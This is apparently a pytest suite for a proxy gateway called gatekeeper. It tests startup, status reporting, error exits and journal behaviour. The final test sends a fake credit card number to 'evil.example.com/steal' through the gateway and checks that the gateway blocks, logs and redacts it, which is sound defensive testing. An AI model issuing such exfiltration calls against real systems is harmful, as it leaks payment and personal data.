"""The gateway as a process: what it makes, its ready line, its end, and how it is asked how it is."""

import json
import signal
import socket
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from gatekeeper.journal import verify_journal

type Start = Callable[..., subprocess.Popen[str]]
type Run = Callable[..., Result]


def until_ready(process: subprocess.Popen[str]) -> tuple[list[str], str]:
    """Give the lines before the ready line, and it."""
    assert process.stdout is not None
    before: list[str] = []
    for line in process.stdout:
        if line.startswith("ready: "):
            return before, line
        before.append(line)
    raise AssertionError(process.communicate())


def exported(process: subprocess.Popen[str]) -> dict[str, str]:
    """Read the lines to paste."""
    assert process.stdout is not None
    lines: dict[str, str] = {}
    while "NODE_USE_ENV_PROXY" not in lines:
        name, _, value = process.stdout.readline().strip().removeprefix("export ").partition("=")
        lines[name] = value
    return lines


def test_a_first_run_makes_what_is_missing_and_the_next_makes_nothing(folder: Path, start: Start) -> None:
    first = start("run")
    made, ready = until_ready(first)
    assert len(made) == 2
    assert ready.startswith("ready: http://127.0.0.1:")
    address = ready.split()[1].strip(",")
    lines = exported(first)
    token = folder / "data" / "first-token.jwt"
    assert lines["HTTPS_PROXY"] == f'"http://workload:$(cat {token})@{address.removeprefix("http://")}"'
    assert lines["SSL_CERT_FILE"] == str(folder / "certs" / "bundle.pem")
    private = [folder / "data" / "keys" / name for name in ("ca.key", "issuer.key", "journal.key", "keys.db")]
    assert {stat.S_IMODE(path.stat().st_mode) for path in [*private, token]} == {0o600}
    contents = [path.read_bytes() for path in [*private[:3], token]]
    first.send_signal(signal.SIGTERM)
    assert first.wait(30) == 0
    second = start("run")
    assert until_ready(second)[0] == []
    assert [path.read_bytes() for path in [*private[:3], token]] == contents
    second.send_signal(signal.SIGINT)
    assert second.wait(30) == 0
    report = verify_journal(folder / "data" / "journal")
    assert (report.ok, report.size) == (True, 4)  # twice open and close


def test_status_says_how_a_running_gateway_is(folder: Path, start: Start, run: Run) -> None:
    process = start("run")
    until_ready(process)
    shown, answered = run("status"), run("status", "--json")
    assert (shown.exit_code, answered.exit_code) == (0, 0)
    assert json.loads(answered.stdout)["listening"] is True
    assert "listening  yes" in shown.stdout
    assert run("status", "--socket", str(folder / "run" / "gatekeeper.sock")).exit_code == 0
    process.send_signal(signal.SIGTERM)
    assert process.wait(30) == 0


def test_no_gateway_is_no_in_one_line(run: Run) -> None:
    result = run("status")
    assert (result.exit_code, result.stdout, result.stderr.count("\n")) == (1, "", 1)
    assert "is the gateway running" in result.stderr


def test_a_dead_gateways_socket_is_no(folder: Path, run: Run) -> None:
    with socket.socket(socket.AF_UNIX) as dead:
        dead.bind(str(folder / "sock"))
    assert run("status", "--socket", "sock").exit_code == 1


def test_what_is_no_socket_of_a_gateway_is_wrong_use(folder: Path, run: Run) -> None:
    result = run("status", "--socket", str(folder / "config.toml" / "x"))
    assert (result.exit_code, result.stderr.count("\n")) == (2, 1)


def port_taken(folder: Path) -> list[str]:
    del folder
    return ["--set", "proxy.listen=127.0.0.1:{taken}"]


def bad_filter(folder: Path) -> list[str]:
    config = folder / "config.toml"
    config.write_text(config.read_text() + '[[rules]]\nname = "f"\naction = "allow"\nmatch = "~nonsense ("\n')
    return []


def half_a_ca(folder: Path) -> list[str]:
    (folder / "certs").mkdir()
    (folder / "certs" / "ca.pem").write_text("half")
    return []


def file_for_folder(folder: Path) -> list[str]:
    (folder / "data").write_text("a file")
    return []


def no_roots(folder: Path) -> list[str]:
    del folder
    return ["--set", "proxy.upstream_ca=nowhere.pem"]


@pytest.mark.parametrize(
    ("prepare", "text"),
    [
        (port_taken, "is taken by another program"),
        (bad_filter, "is no mitmproxy filter expression"),
        (half_a_ca, "put it back, or remove that"),
        (file_for_folder, "data: "),
        (no_roots, "nowhere.pem"),
    ],
)
def test_what_cant_be_served_ends_with_2_and_one_line(
    folder: Path, start: Start, prepare: Callable[[Path], list[str]], text: str
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        options = [option.replace("{taken}", str(taken.getsockname()[1])) for option in prepare(folder)]
        process = start("run", *options)
        output, errors = process.communicate(timeout=60)
    assert (process.returncode, errors.count("\n")) == (2, 1), errors
    assert errors.startswith("gatekeeper: ")
    assert text in errors
    assert "ready" not in output


def test_a_second_gateway_on_the_same_journal_is_refused(start: Start) -> None:
    first = start("run")
    until_ready(first)
    second = start("run", "--set", "admin.listen=unix:run/other.sock")
    _, errors = second.communicate(timeout=60)
    assert (second.returncode, errors.count("\n")) == (2, 1)
    assert "another gateway writes this journal" in errors
    first.send_signal(signal.SIGTERM)
    assert first.wait(30) == 0


def test_a_denied_call_through_exec_is_in_the_journal(start: Start, run: Run) -> None:
    gateway = start("run")
    _, ready = until_ready(gateway)
    address = ready.split()[1].strip(",").removeprefix("http://")
    program = (
        "import httpx, os; answer = httpx.post('https://evil.example.com/steal', json={'card': '4111 1111 1111 1111'});"
        "print(answer.status_code, answer.json()['error']['message'] if 'error' in answer.json() else answer.text)"
    )
    process = start(
        "exec", "--subject", "rogue-bot", "--set", f"proxy.listen={address}", "--", sys.executable, "-c", program
    )
    output, errors = process.communicate(timeout=60)
    assert (process.returncode, output[:4]) == (0, "403 "), errors
    gateway.send_signal(signal.SIGTERM)
    assert gateway.wait(30) == 0
    shown = run("replay", "show", "0..9")
    assert shown.exit_code == 0
    assert "deny by rule 'never'" in shown.stdout
    assert "<CREDIT_CARD>" in shown.stdout
    assert "rogue-bot" in run("replay", "list").stdout
